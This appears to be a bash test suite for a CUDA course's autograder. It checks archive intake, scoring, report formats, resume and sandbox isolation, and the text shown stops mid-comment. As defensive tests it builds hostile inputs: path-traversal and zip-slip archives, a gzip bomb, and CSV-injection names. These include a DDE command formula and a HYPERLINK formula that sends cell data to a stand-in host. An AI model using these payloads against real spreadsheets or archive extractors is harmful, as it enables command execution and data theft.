#!/usr/bin/env bash
# tests/grade.sh — the instructor's grader on the CPU: intake of folders and
# archives (malformed ones refused), compile errors and rejections scored,
# no_gpu left ungraded, the reports well-formed (results.json keys, JUnit
# against tests/grade/junit.xsd, CSV parsed), shards + merge equal to one
# run, resume, exit codes, the sandbox's isolation, the grader attacked
# (submissions named as spreadsheet formulas, host files read through the
# compiler, a fallback to root's rights), the calibration of the targets
# (on a GPU), and the two check options grade.sh is built on
# (--build-only/--run-only and --wrap).
# On a GPU machine the runnable kernels pass instead of being no_gpu.
# shellcheck source=tests/lib.sh
. "$(dirname "$0")/lib.sh"
cd "$ROOT" || exit 1
set -o pipefail
# $TMP stays mktemp -d's 0700: the grader makes the sandbox's folder itself.

GRADE="$ROOT/grade.sh"
XSD="$ROOT/tests/grade/junit.xsd"
L1=$(lab_dir 01)
L2=$(lab_dir 02)
SOL1="$ROOT/solutions/$L1/kernel.cu"
gpu=0
have_gpu && gpu=1
# shellcheck disable=SC2054  # 01,02 is one argument
OPTS=(--labs 01,02 --seed 4242 --no-sanitize --no-calibrate -j 2 -q)

# status OUT STUDENT LAB: a lab's status in a student's report.
status() { jq -r --arg l "$3" '.labs[] | select(.lab == $l) | .status' "$1/students/$2/report.json" 2>/dev/null; }
# normalized FILE: a student report without what differs between runs
# (times; on a GPU also the measured speed and the words that quote it).
normalized() { jq -S 'del(.grader.graded_at) | .labs |= map(del(.seconds, .target, .performance.why, .summary, .text))' "$1"; }
# junit_shape FILE: the JUnit's suites, cases and verdicts, nothing measured.
junit_shape() { xmllint --xpath '//testsuite/@name | //testcase/@name | //failure/@type | //error/@type | //skipped/@message' "$1"; }

# ---- submissions -------------------------------------------------------------

S="$TMP/subs"
mkdir -p "$S" "$TMP/mk"
# alice: a folder; lab 01 right, lab 02 does not compile.
mkdir -p "$S/alice/labs/$L1" "$S/alice/labs/$L2"
cp "$SOL1" "$S/alice/labs/$L1/kernel.cu"
cp tests/grade/syntax_error.cu "$S/alice/labs/$L2/kernel.cu"
# bob: a .tar.gz of his workbook folder; lab 01 sums on the host (rejected).
mkdir -p "$TMP/mk/bob/labs/$L1"
cp tests/bank/host_sum.cu "$TMP/mk/bob/labs/$L1/kernel.cu"
tar czf "$S/bob.tar.gz" -C "$TMP/mk" bob
# carol: a .zip with the lab folders at the top; lab 02 is the stub as given.
mkdir -p "$TMP/mk/carol/$L1" "$TMP/mk/carol/$L2"
cp "$SOL1" "$TMP/mk/carol/$L1/kernel.cu"
cp "$(stub_file 02)" "$TMP/mk/carol/$L2/kernel.cu"
(cd "$TMP/mk/carol" && zip -qr "$S/carol.zip" .)

# Malformed ones, each refused with its reason.
M="$TMP/bad"
mkdir -p "$M" "$TMP/mk/t/labs/$L1"
cp "$SOL1" "$TMP/mk/t/labs/$L1/kernel.cu"
echo evil > "$TMP/mk/evil.cu"
(cd "$TMP/mk/t" && tar czPf "$M/traversal.tar.gz" labs ../evil.cu)
(cd "$TMP/mk/t" && zip -qr "$M/zipslip.zip" labs ../evil.cu)
mkdir -p "$TMP/mk/s/labs/$L1"
ln -s "$SOL1" "$TMP/mk/s/labs/$L1/kernel.cu"
tar czf "$M/symlink.tar.gz" -C "$TMP/mk/s" labs
mkdir -p "$M/linked/labs/$L1"
ln -s "$SOL1" "$M/linked/labs/$L1/kernel.cu"
mkdir -p "$TMP/mk/b/labs/$L1"
cp "$SOL1" "$TMP/mk/b/labs/$L1/kernel.cu"
head -c $((70 << 20)) /dev/zero > "$TMP/mk/b/zeros"
tar czf "$M/bomb.tar.gz" -C "$TMP/mk/b" labs zeros
rm -f "$TMP/mk/b/zeros"
mkdir -p "$TMP/mk/many"
for i in $(seq 40); do : > "$TMP/mk/many/f$i"; done
tar czf "$M/many.tar.gz" -C "$TMP/mk" many
echo "this is not an archive" > "$M/notarchive.zip"
echo "neither is this" > "$M/fake.tar.gz"
mkdir -p "$M/huge/labs/$L1"
head -c 300000 /dev/zero | tr '\0' '/' > "$M/huge/labs/$L1/kernel.cu"

# ---- usage and exit codes ----------------------------------------------------

"$GRADE" --help > "$TMP/help" 2>&1; rc=$?
check "--help exits 0 and documents the exit codes" test $rc = 0 -a -n "$(grep -i 'exit codes' "$TMP/help")"
"$GRADE" > /dev/null 2>&1; rc=$?
check "no submissions is a usage error (2)" test $rc = 2
"$GRADE" --frobnicate "$S/alice" > /dev/null 2>&1; rc=$?
check "an unknown option is a usage error (2)" test $rc = 2
"$GRADE" --shard 2/2 "$S/alice" > /dev/null 2>&1; rc=$?
check "--shard 2/2 is a usage error (2)" test $rc = 2
"$GRADE" -o "$TMP/o-x" "$S/alice" "$TMP/nonexistent" > /dev/null 2>&1; rc=$?
check "a missing submission path is a usage error (2)" test $rc = 2
mkdir -p "$TMP/dup"
cp -r "$S/alice" "$TMP/dup/alice"
cp "$S/carol.zip" "$TMP/dup/alice.zip"
out=$("$GRADE" -o "$TMP/o-dup" "$TMP/dup/alice" "$TMP/dup/alice.zip" 2>&1); rc=$?
check "two submissions with one student id: usage error naming it" \
    test $rc = 2 -a -n "$(grep 'same student id: alice' <<<"$out")"
out=$(CUDATUTOR_HARNESS_DIR="$TMP/nowhere" "$GRADE" -o "$TMP/o-int" "$S/alice" 2>&1); rc=$?
check "no harness objects: internal error (4) that says run make" test $rc = 4 -a -n "$(grep 'run make' <<<"$out")"
jq '.fail_credit = 2' data/rubric.json > "$TMP/bad-rubric.json"
out=$("$GRADE" -o "$TMP/o-rub" --rubric "$TMP/bad-rubric.json" "$S/alice" 2>&1); rc=$?
check "a rubric out of range is a usage error that names the key" test $rc = 2 -a -n "$(grep fail_credit <<<"$out")"

# A usage error leaves nothing behind: the output folder is made only once
# every argument (the submissions, the roster, the rubric) is known good.
mkdir -p "$TMP/cwd"
(cd "$TMP/cwd" && "$GRADE" "$TMP/nonexistent" > /dev/null 2>&1); rc=$?
check "grade.sh of a path that is not there: usage error (2), no grade-out/ made" \
    test $rc = 2 -a ! -e "$TMP/cwd/grade-out"
left=""
for o in o-x o-dup o-rub; do [ ! -e "$TMP/$o" ] || left="$left $o"; done
check "a missing path, a duplicate id, a bad rubric: no output folder made${left:+ (left:$left)}" test -z "$left"
(cd "$TMP/cwd" && "$GRADE" --roster "$TMP/nonexistent.csv" "$S/alice" > /dev/null 2>&1); rc=$?
check "a roster that is not there: usage error (2), no grade-out/ made" test $rc = 2 -a ! -e "$TMP/cwd/grade-out"

# The bonus labs are graded only when --labs names them: on a catalog with
# two bonus labs (98, 99) and a rubric without points for them (and no
# default), a plain run gets past the rubric (to the duplicate student id)
# and a run that names 98 does not.
BWB=$TMP/bwb
make_workbook "$BWB"
ln -s "$TUTOR" "$BWB/cudatutor"
jq '.labs |= map(select(.bonus != true))
    | .labs += [(.labs[9] | .id = "98" | .slug = "extra-one" | .bonus = true | .opens_after = "08"),
                (.labs[9] | .id = "99" | .slug = "extra-two" | .bonus = true | .opens_after = "08")]' \
    data/labs.json > "$BWB/data/labs.json"
jq 'del(.default) | .labs |= with_entries(select(.key | tonumber < 11))' data/rubric.json > "$TMP/core-rubric.json"
out=$(CUDATUTOR_HARNESS_DIR="$ROOT/build/harness" "$GRADE" --workbook "$BWB" --rubric "$TMP/core-rubric.json" \
      -o "$TMP/o-bonus" "$TMP/dup/alice" "$TMP/dup/alice.zip" 2>&1); rc=$?
check "by default the bonus labs are not graded (no rubric points asked for them)" \
    test $rc = 2 -a -n "$(grep 'same student id: alice' <<<"$out")" -a -z "$(grep 'no points for lab' <<<"$out")"
out=$(CUDATUTOR_HARNESS_DIR="$ROOT/build/harness" "$GRADE" --workbook "$BWB" --rubric "$TMP/core-rubric.json" \
      --labs 01,98 -o "$TMP/o-bonus" "$TMP/dup/alice" "$TMP/dup/alice.zip" 2>&1); rc=$?
check "--labs names a bonus lab: it is graded (its rubric points are asked for)" \
    test $rc = 2 -a -n "$(grep 'no points for lab 98' <<<"$out")"
check "the real rubric has points for every lab of the catalog" \
    test "$(jq -r --slurpfile r data/rubric.json '[.labs[].id | select(in($r[0].labs) | not)] | length' data/labs.json)" = 0

# ---- one class ---------------------------------------------------------------

O1="$TMP/o1"
# Its work folders are kept for the sandbox's checks below (run.json's work).
"$GRADE" "${OPTS[@]}" --keep-work -o "$O1" "$S"/* "$M"/* > "$TMP/o1.log" 2>&1; rc=$?
KEPT=$(jget "$O1/run.json" .work 2>/dev/null)
case $KEPT in */cudatutor-grade.*/work) ;; *) KEPT=$TMP/no-work-kept ;; esac
# Its spec, before the gradings below (resume, --force) write theirs, whose
# folders (and, from a private folder, copies of cudatutor) are gone.
SPEC="$TMP/o1-sandbox.json"
cp "$O1/.grader/sandbox.json" "$SPEC" 2>/dev/null
check "--keep-work keeps the work folders in the sandbox's own folder, named in run.json" \
    test -d "$KEPT/alice/wb" -a "${KEPT#"$O1"}" = "$KEPT"
if [ $gpu = 1 ]; then
    check "a class with every lab graded exits 0" test $rc = 0
    check "a right kernel passes" test "$(status "$O1" alice 01)" = pass
else
    check "a class with labs not run for want of a GPU exits 3" test $rc = 3
    check "a runnable kernel without a GPU is no_gpu" test "$(status "$O1" alice 01)" = no_gpu
    check "no_gpu is not graded: no score, not in graded_max_score" \
        test "$(jq -c '[.labs[0].graded, .labs[0].score, .graded_max_score, .max_score, .labs_not_graded]' \
                "$O1/students/alice/report.json")" = '[false,null,8,16,1]'
fi
check "a compile error is graded zero" \
    test "$(jq -c '.labs[1] | [.status, .graded, .score]' "$O1/students/alice/report.json")" = '["compile_error",true,0]'
check "the compile error points at the student's line, without the grader's paths" \
    test -n "$(jget "$O1/students/alice/report.json" '.labs[1].text' | grep -F "labs/$L2/kernel.cu:7:")" \
         -a -z "$(jget "$O1/students/alice/report.json" '.labs[1].text' | grep -F "$O1")"
check "a rejected kernel is graded zero and names the symbol" \
    test "$(jq -r '.labs[0] | "\(.status) \(.score) \(.text | test("cudaMemcpy"))"' "$O1/students/bob/report.json")" = "rejected 0 true"
check "a .tar.gz with the workbook one folder down is taken in" \
    test "$(jget "$O1/students/bob/intake.json" '.labs["01"].from')" = "bob/labs/$L1/kernel.cu"
check "a lab missing from the submission is graded zero" \
    test "$(jq -c '.labs[1] | [.status, .score]' "$O1/students/bob/report.json")" = '["missing",0]'
# The missing lab's verdict is said once: the text names the file the
# grader looked for, and no second wording of "missing" follows it.
miss_text=$(jget "$O1/students/bob/results.json" '.tests[1].output')
check "a missing lab's text says it once, naming the file (no second wording of the verdict)" \
    test "$(grep -c 'in the submission' <<<"$miss_text")" = 1 -a -n "$(grep -F "labs/$L2/kernel.cu" <<<"$miss_text")"
check "a .zip with the lab folders at the top is taken in" \
    test "$(jget "$O1/students/carol/intake.json" '.labs["01"].state')" = ok
check "an untouched stub is graded zero without being built" \
    test "$(jq -c '.labs[1] | [.status, .score]' "$O1/students/carol/report.json")" = '["unchanged",0]' \
         -a ! -e "$O1/students/carol/labs/02.json"

# "Unchanged" is the pristine stub (data/stubs/), never the grading
# checkout's own labs/, where the grader may have tried the tutor: a
# submission equal to the stub is unchanged, one equal to the grader's
# edited copy is taken in.
GWB=$TMP/gwb
make_workbook "$GWB"
ln -s "$TUTOR" "$GWB/cudatutor"
printf '\n// the grader tried the tutor here\n' >> "$GWB/labs/$L2/kernel.cu"
mkdir -p "$TMP/u/dave/labs/$L2" "$TMP/u/erin/labs/$L2"
cp "$(stub_file 02)" "$TMP/u/dave/labs/$L2/kernel.cu"
cp "$GWB/labs/$L2/kernel.cu" "$TMP/u/erin/labs/$L2/kernel.cu"
CUDATUTOR_HARNESS_DIR="$ROOT/build/harness" "$GRADE" --workbook "$GWB" --labs 02 --seed 4242 --no-sanitize \
    --no-calibrate -j 2 -q -o "$TMP/o-unch" "$TMP/u"/* > "$TMP/o-unch.log" 2>&1
intake_state() { jget "$TMP/o-unch/students/$1/intake.json" '.labs["02"].state' 2>/dev/null; }
check "unchanged: equal to the pristine stub, whatever the grader's labs/ holds" test "$(intake_state dave)" = unchanged
check "not unchanged: equal to the grading checkout's edited labs/ file" test "$(intake_state erin)" = ok

refused() { jq -r '.refused // (.labs | to_entries[0].value.why) // ""' "$O1/students/$1/intake.json"; }
check "an archive member outside the folder refuses the archive" test -n "$(refused traversal | grep 'escapes the folder')"
check "a zip slip refuses the zip" test -n "$(refused zipslip | grep 'escapes the folder')"
check "a kernel.cu that is a link in an archive is refused" test -n "$(refused symlink | grep 'is a link')"
check "a kernel.cu that is a symbolic link in a folder is refused" test -n "$(refused linked | grep 'symbolic link')"
check "a gzip bomb is refused" test -n "$(refused bomb | grep 'archive bomb')"
check "not a zip is refused" test -n "$(refused notarchive | grep 'not a zip')"
check "not a gzip is refused" test -n "$(refused fake | grep 'not a gzip')"
check "an oversize kernel.cu is refused" test -n "$(refused huge | grep 'the limit is 256 KiB')"
check "refused submissions are graded zero, never built" \
    test "$(jq -s '[.[] | select(.refused != null) | .score] | add' "$O1"/students/{traversal,zipslip,bomb,notarchive,fake}/report.json)" = 0
check "the evil member was never written" \
    test ! -e "$O1/evil.cu" -a ! -e "$KEPT/evil.cu" -a ! -e "$(dirname "$KEPT")/evil.cu" -a ! -e "$TMP/evil.cu"
"$GRADE" "${OPTS[@]}" --max-members 20 -o "$TMP/o-many" "$M/many.tar.gz" > /dev/null 2>&1
check "an archive with too many members is refused" \
    test -n "$(jget "$TMP/o-many/students/many/report.json" .refused | grep 'members (the limit is 20)')"

# ---- the reports -------------------------------------------------------------

for f in "$O1"/students/*/results.json; do
    jq -e '
        (.score | type == "number") and (.tests | type == "array" and length > 0)
        and (.output | type == "string") and (.visibility | IN("visible", "hidden", "after_due_date", "after_published"))
        and ([.tests[] | (.name | type == "string") and (.output | type == "string")
              and (.visibility | IN("visible", "hidden", "after_due_date", "after_published"))
              and (if has("score") then (.score | type == "number") and (.max_score | type == "number")
                                        and (.status | IN("passed", "failed")) and .score <= .max_score
                   else (has("max_score") or has("status")) | not end)] | all)
        and .score == ([.tests[].score // 0] | add)' "$f" > /dev/null || { not_ok "results.json $f has the Gradescope keys" "$(cat "$f")"; continue; }
done
ok "every results.json has Gradescope's keys (score, tests with name, status, score, max_score, visibility, output)"
check "results.json never shows the seed or the program's output in a test's text" \
    test -z "$(jq -r '.tests[].output' "$O1"/students/*/results.json | grep -E 'seed|^@stage')"
# Gradescope stores extra_data and hands it back to later autograder runs,
# where students' kernels run: the seed (4242 here) stays in report.json.
check "results.json carries no seed, in extra_data or anywhere (report.json has it)" \
    test "$(jq -s '[.[] | .. | objects | select(has("seed"))] | length' "$O1"/students/*/results.json)" = 0 \
         -a -z "$(grep -lw 4242 "$O1"/students/*/results.json)" \
         -a "$(jq '[.labs[].seed] | any(. == 4242)' "$O1/students/alice/report.json")" = true
if xmllint --noout --schema "$XSD" "$O1/junit.xml" "$O1"/students/*/junit.xml > "$TMP/xsd.log" 2>&1; then
    ok "junit.xml (class and per student) validates against tests/grade/junit.xsd"
else
    not_ok "junit.xml (class and per student) validates against tests/grade/junit.xsd" "$(tail -5 "$TMP/xsd.log")"
fi
check "JUnit: a compile error is a failure, no_gpu a skip" \
    test "$(xmllint --xpath 'string(//testsuite[@name="alice"]/testcase[2]/failure/@type)' "$O1/junit.xml")" = compile_error \
         -a "$(xmllint --xpath 'count(//testsuite[@name="alice"]/testcase[1]/skipped)' "$O1/junit.xml")" = $((1 - gpu))
if command -v python3 > /dev/null; then
    csv=$(python3 -c '
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
a = [r for r in rows if r["student"] == "alice"][0]
print(len(rows), ",".join(list(rows[0].keys())[:6]), a["score"], repr(a["01"]), a["status_02"])' "$O1/grades.csv")
    want="12 student,submission,score,max_score,graded_max_score,labs_not_graded 0 '' compile_error"
    [ $gpu = 1 ] && want=$(sed "s/ '' / '$(jget "$O1/students/alice/report.json" '.labs[0].score')' /; s/ 0 / $(jget "$O1/students/alice/report.json" .score) /" <<<"$want")
    check "grades.csv parses as CSV: a row per student, empty cells for labs not graded" test "$csv" = "$want"
else
    skip "grades.csv parses as CSV" "python3 not installed"
fi
check "the summary table lists every student" test "$(grep -cE '^(alice|bob|carol|traversal) ' "$O1/summary.txt")" = 4

# ---- an attacked grader: names that are spreadsheet formulas -----------------

# Submissions named as formulas (OWASP's CSV injection): every text cell of
# grades.csv a spreadsheet would evaluate (or shift) carries a leading
# single quote, the submission's name reads back whole behind it, and the
# summary table's student cell is guarded the same way.  Empty folders:
# every lab is missing, so nothing is built.
F="$TMP/formulas"
mkdir -p "$F"
# (A tab cannot lead a submission's name, which the grader refuses with
# one; the unit test of the CSV writer takes that case.)
# A name holds no '/', hence CHAR(47).
formulas=('+1+1' '@SUM(1+1)' '=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"x.example"&CHAR(47)&"?"&C2,"grades")' '-2+3'
          $'\rCR' '=cmd|'"' -C calc'"'!A0')
for name in "${formulas[@]}"; do mkdir -p "$F/$name"; done
"$GRADE" --labs 01 --no-sanitize --no-calibrate -q -o "$TMP/o-formula" "$F"/* > "$TMP/o-formula.log" 2>&1
if command -v python3 > /dev/null; then
    bad=$(python3 -c '
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="")))
head, body = rows[0], rows[1:]
names = set(sys.argv[2:])
numeric = {"score", "max_score", "graded_max_score", "labs_not_graded", "01"}
out = []
if len(body) != len(names):
    out.append("%d rows for %d submissions" % (len(body), len(names)))
for r in body:
    for h, c in zip(head, r):
        if h not in numeric and c[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
            out.append("%s cell %r" % (h, c))
    sub = r[head.index("submission")]
    if not (sub.startswith("\x27") and sub[1:] in names):
        out.append("submission %r is not a guarded name" % sub)
print("; ".join(out))' "$TMP/o-formula/grades.csv" "${formulas[@]}")
    check "grades.csv: a submission or student named as a formula is a quoted text cell (${bad:-none left})" \
        test -z "$bad" -a -s "$TMP/o-formula/grades.csv"
else
    skip "grades.csv: names as formulas are quoted text cells" "python3 not installed"
fi
# The students' lines: after the header, up to the blank line before the legend.
students=$(awk 'NR > 1 && /^$/ { exit } NR > 1' "$TMP/o-formula/summary.txt")
check "summary.txt: no student cell starts as a formula" \
    test "$(wc -l <<<"$students")" = ${#formulas[@]} -a -z "$(grep -E $'^[-=+@\t\r]' <<<"$students")"

# ---- roster ------------------------------------------------------------------

"$GRADE" "${OPTS[@]}" --roster tests/grade/roster.csv -o "$TMP/o-roster" "$S"/* > /dev/null 2>&1
check "a roster CSV (quotes, CRLF) renames the students" \
    test "$(cd "$TMP/o-roster/students" && echo *)" = "s1001 s1002 s1003"

# ---- shards, merge, resume ---------------------------------------------------

"$GRADE" "${OPTS[@]}" --shard 0/2 -o "$TMP/s0" "$S"/* "$M"/* > /dev/null 2>&1
"$GRADE" "${OPTS[@]}" --shard 1/2 -o "$TMP/s1" "$S"/* "$M"/* > /dev/null 2>&1
n0=$(find "$TMP/s0/students" -mindepth 1 -maxdepth 1 -type d | wc -l)
n1=$(find "$TMP/s1/students" -mindepth 1 -maxdepth 1 -type d | wc -l)
check "two shards split the class" test $((n0 + n1)) = 12 -a "$n0" = 6 -a "$n1" = 6
"$GRADE" --merge -q -o "$TMP/merged" "$TMP/s0" "$TMP/s1" > /dev/null 2>&1; rc=$?
check "merge exits like the single run" test $rc = $((gpu ? 0 : 3))
# On a GPU each shard times its kernels again, and the performance credit
# of a kernel short of its target moves with the timings: there the
# statuses are compared, and the scores only without a GPU.
if [ $gpu = 0 ]; then
    check "shards + merge: grades.csv equals the single run's" cmp -s "$O1/grades.csv" "$TMP/merged/grades.csv"
else
    skip "shards + merge: grades.csv equals the single run's" "a GPU times each shard again (statuses compared below)"
fi
# comparable FILE: the report as normalized, or on a GPU its statuses alone.
comparable() { if [ $gpu = 0 ]; then normalized "$1"; else jq -c '[.labs[] | {lab, status}]' "$1"; fi; }
same=1
for f in "$O1"/students/*/report.json; do
    id=$(basename "$(dirname "$f")")
    [ "$(comparable "$f")" = "$(comparable "$TMP/merged/students/$id/report.json")" ] || same=0
done
check "shards + merge: every student report equals the single run's" test $same = 1
check "shards + merge: junit.xml equals the single run's (what was measured aside)" \
    test "$(junit_shape "$O1/junit.xml")" = "$(junit_shape "$TMP/merged/junit.xml")"

before=$(jget "$O1/students/alice/report.json" .grader.graded_at)
rm -rf "$O1/students/bob"
"$GRADE" "${OPTS[@]}" -o "$O1" "$S"/* "$M"/* > "$TMP/resume.log" 2>&1
check "resume grades only the students not finished" \
    test -f "$O1/students/bob/report.json" -a "$(jget "$O1/students/alice/report.json" .grader.graded_at)" = "$before" \
         -a "$(jq -c .graded_now "$O1/run.json")" = '["bob"]'
"$GRADE" "${OPTS[@]}" --force -o "$O1" "$S/alice" > /dev/null 2>&1
check "--force grades a finished student again" test "$(jq -c .graded_now "$O1/run.json")" = '["alice"]'
# Interrupted (as Slurm or a shutdown does, with TERM) once a student is
# finished: exit 130, the finished kept, and the same command resumes.
mkdir -p "$TMP/class"
for i in 1 2 3 4 5 6; do cp -r "$S/alice" "$TMP/class/st$i"; done
"$GRADE" "${OPTS[@]}" -j 1 -o "$TMP/o-term" "$TMP/class"/* > /dev/null 2>&1 &
pid=$!
for _ in $(seq 300); do
    grep -q '^S ' "$TMP/o-term/.grader/events" 2>/dev/null && break
    sleep 0.1
done
kill -TERM "$pid" 2>/dev/null
wait "$pid"; rc=$?
mapfile -t done_before < <(cd "$TMP/o-term/students" && ls -d st* 2>/dev/null)
if [ ${#done_before[@]} -lt 6 ]; then
    check "TERM stops grading with exit 130, finished students kept" test $rc = 130 -a ${#done_before[@]} -ge 1
else
    skip "TERM stops grading with exit 130, finished students kept" "every student was done before the signal"
fi
"$GRADE" "${OPTS[@]}" -j 1 -o "$TMP/o-term" "$TMP/class"/* > /dev/null 2>&1
again=$(jq -r '.graded_now | join(" ")' "$TMP/o-term/run.json")
check "running the same command again grades only the rest" \
    test "$(find "$TMP/o-term/students" -name report.json | wc -l)" = 6 -a -z "$(for d in "${done_before[@]}"; do grep -w "$d" <<<"$again"; done)"

exec 7> "$O1/.grader/lock"
flock -n 7
"$GRADE" "${OPTS[@]}" -o "$O1" "$S/alice" > /dev/null 2>&1; rc=$?
check "a second grade.sh on the same output folder is refused (2)" test $rc = 2
exec 7>&-

jq '.labs["02"].correctness = 20' data/rubric.json > "$TMP/rubric2.json"
"$GRADE" --rescore -q --rubric "$TMP/rubric2.json" -o "$O1" > /dev/null 2>&1
check "--rescore applies a changed rubric to the saved verdicts" \
    test "$(jq .max_score "$O1/students/alice/report.json")" = 30

# ---- scoring the verdicts a GPU gives (from saved reports, by --rescore) ---------

R="$TMP/o-score"
mkdir -p "$R/students"
# verdict ID STATUS [JQ]: student ID with one lab 01 verdict of STATUS.
verdict() {
    mkdir -p "$R/students/$1/labs"
    jq -n --arg s "$2" '{submission: "x", kind: "folder", refused: null,
        labs: {"01": {state: "ok", from: "labs/01/kernel.cu", bytes: 1, why: null}}}' > "$R/students/$1/intake.json"
    jq -n --arg s "$2" '{schema: 1, lab: "01", status: $s, summary: $s, seed: 1,
        tests: [range(32) | {name: "n=\(.)", pass: true}],
        target: {metric: "ratio", case: "2^28", min: 0.2, value: 0.3, met: true},
        perf: [{label: "2^28", implausible: false}]} | '"${3:-.}" > "$R/students/$1/labs/01.json"
}
verdict met pass
verdict below pass '.target.value = 0.15 | .target.met = false'
verdict slow pass '.target.value = 0.08 | .target.met = false'
verdict cheat pass '.target.value = 9 | .target.met = false | .perf[0].implausible = true'
verdict racy fail
verdict wrong fail '.tests[:8] |= map(.pass = false)'
verdict hung timeout
verdict crash runtime_error
verdict cheats rejected
"$GRADE" --rescore -q -o "$R" > /dev/null 2>&1
score() { jget "$R/students/$1/report.json" .score; }
check "rubric: a pass on target earns every point (6 + 2)" test "$(score met)" = 8
check "rubric: a pass at 3/4 of the target earns half the performance points" test "$(score below)" = 7
check "rubric: a pass under half the target earns no performance points" test "$(score slow)" = 6
check "rubric: an implausible timing earns no performance points" test "$(score cheat)" = 6
check "rubric: a fail with every size right (a race) earns fail_credit x correctness" test "$(score racy)" = 3
check "rubric: a fail earns fail_credit x the share of sizes passed" test "$(score wrong)" = 2.25
check "rubric: timeout, runtime_error and rejected earn nothing" \
    test "$(score hung)$(score crash)$(score cheats)" = 000
jq '.rejected_penalty = 1 | .fail_credit = 0' data/rubric.json > "$TMP/rubric-strict.json"
"$GRADE" --rescore -q --rubric "$TMP/rubric-strict.json" -o "$R" > /dev/null 2>&1
check "rubric: fail_credit 0 gives a fail nothing; the penalty never takes a total below 0" \
    test "$(score racy)$(score cheats)" = 00

# ---- the sandbox -------------------------------------------------------------

sandbox=$(jget "$O1/run.json" .sandbox)
if [ "$sandbox" = none ]; then
    for t in "writes only its work folder" "has no network" "has a private /tmp" "cannot see the workbook" \
             "limits processes" "dies with its parent"; do
        skip "the sandbox $t" "bubblewrap does not work here: $(jget "$O1/run.json" .sandbox_notes)"
    done
else
    W="$KEPT/probe-work"
    mkdir -p "$W"
    [ "$sandbox" != bwrap-nobody ] || chown 65534:65534 "$W"
    touch /tmp/grade-test-marker.$$
    # shellcheck disable=SC2016
    # The very line every build and run of the grading went through.
    SANDBOX=("$TUTOR" grade --sandbox-exec "$SPEC" --)
    got=$(cd "$W" && "${SANDBOX[@]}" /bin/bash -c '
        echo x > here && echo work-ok
        (echo x > "$1/escaped") 2>/dev/null || echo out-ro
        (echo x > "$1/../escaped") 2>/dev/null || echo parent-ro
        (exec 3<>/dev/tcp/127.0.0.1/22) 2>/dev/null || echo no-tcp
        [ "$(grep -c : /proc/net/dev)" -le 1 ] && echo only-lo
        [ -e /tmp/grade-test-marker.'$$' ] || echo tmp-private
        [ -e "$2/solutions" ] || echo solutions-hidden
        [ -e "$3" ] || echo submissions-hidden
        ulimit -u' probe "$O1" "$ROOT" "$S/alice" 2>&1)
    rm -f /tmp/grade-test-marker.$$
    check "the sandbox writes only its work folder" \
        test -n "$(grep -x work-ok <<<"$got")" -a -n "$(grep -x out-ro <<<"$got")" -a ! -e "$O1/escaped"
    check "the sandbox has no network" test -n "$(grep -x no-tcp <<<"$got")" -a -n "$(grep -x only-lo <<<"$got")"
    check "the sandbox has a private /tmp" test -n "$(grep -x tmp-private <<<"$got")"
    check "the sandbox cannot see the workbook's solutions or the submissions" \
        test -n "$(grep -x solutions-hidden <<<"$got")" -a -n "$(grep -x submissions-hidden <<<"$got")"
    check "the sandbox limits processes (ulimit -u)" test "$(tail -n1 <<<"$got")" != unlimited
    # The shared compiles ($CUDATUTOR_COMPILE_CACHE, as tests/run.sh sets
    # it): a build adds to them; a run, where the student's host code
    # executes, could otherwise plant an object for a classmate's source.
    cache=$(jq -r '.compile_cache // empty' "$SPEC")
    if [ -n "$cache" ]; then
        # shellcheck disable=SC2016
        probe_cache='ls -A "$1" | grep -q . && echo sees; touch "$1/planted" 2>/dev/null && echo writes
                     [ "$CUDATUTOR_COMPILE_CACHE" = "$1" ] && echo told'
        run_saw=$(cd "$W" && "${SANDBOX[@]}" /bin/bash -c "$probe_cache" probe "$cache" 2>&1 | tr '\n' ' ')
        build_saw=$(cd "$W" && "$TUTOR" grade --sandbox-exec "$SPEC" --build "$KEPT/alice/wb" -- \
                    /bin/bash -c "$probe_cache" probe "$cache" 2>&1 | tr '\n' ' ')
        check "a build adds to the shared compiles (${build_saw:-nothing})" test "$build_saw" = "sees writes told "
        check "a run neither sees nor changes them (${run_saw:-nothing})" test -z "$run_saw"
        rm -f "$cache/planted"
    else
        skip "the grader's builds share the compile cache" "no \$CUDATUTOR_COMPILE_CACHE (tests/run.sh sets one)"
    fi
    # Killed the way the tutor kills a run that is out of time.
    ( (cd "$W" && exec timeout --foreground -s KILL 2 "${SANDBOX[@]}" /bin/sh -c 'sleep 4242 & sleep 4243') ) > /dev/null 2>&1
    sleep 0.5
    left=$(grep -l 'sleep.424[23]' /proc/[0-9]*/cmdline 2>/dev/null | wc -l)
    check "the sandbox dies with its parent (nothing left running)" test "$left" = 0
fi
case $KEPT in */cudatutor-grade.*/work) rm -rf "${KEPT%/work}" ;; esac
PATH_NO_BWRAP="$TMP/fakebin:$PATH"
mkdir -p "$TMP/fakebin"
printf '#!/bin/sh\necho "bwrap: no namespaces here" >&2\nexit 1\n' > "$TMP/fakebin/bwrap"
chmod +x "$TMP/fakebin/bwrap"
out=$(PATH=$PATH_NO_BWRAP "$GRADE" "${OPTS[@]}" --sandbox bwrap -o "$TMP/o-nobw" "$S/alice" 2>&1); rc=$?
check "--sandbox bwrap where bubblewrap cannot work exits 5" test $rc = 5 -a -n "$(grep 'does not work here' <<<"$out")"
out=$(PATH=$PATH_NO_BWRAP "$GRADE" "${OPTS[@]}" -o "$TMP/o-nobw2" "$S/alice" 2>&1); rc=$?
if [ "$(id -u)" = 0 ]; then
    check "as root without a working bubblewrap: refused (5), never root's rights, and the options that choose them named" \
        test $rc = 5 -a -n "$(grep 'REFUSED' <<<"$out")" -a -n "$(grep -- '--sandbox bwrap-root' <<<"$out")" \
             -a -n "$(grep -- '--sandbox none' <<<"$out")" -a ! -e "$TMP/o-nobw2/students/alice/report.json"
    out=$(PATH=$PATH_NO_BWRAP "$GRADE" "${OPTS[@]}" --sandbox none -o "$TMP/o-nobw3" "$S/alice" 2>&1); rc=$?
    check "--sandbox none: a loud warning, and grading goes on" \
        test -n "$(grep 'NO SANDBOX' <<<"$out")" -a "$(status "$TMP/o-nobw3" alice 02)" = compile_error
else
    check "without a working bubblewrap: a loud warning, and grading goes on" \
        test -n "$(grep 'NO SANDBOX' <<<"$out")" -a "$(status "$TMP/o-nobw2" alice 02)" = compile_error
fi

# ---- an attacked grader: host files through the compiler ---------------------

# A build sees the toolchain, lab.h and the student's file, not the host's
# users: an #include or an .incbin of /etc/passwd or /etc/shadow finds
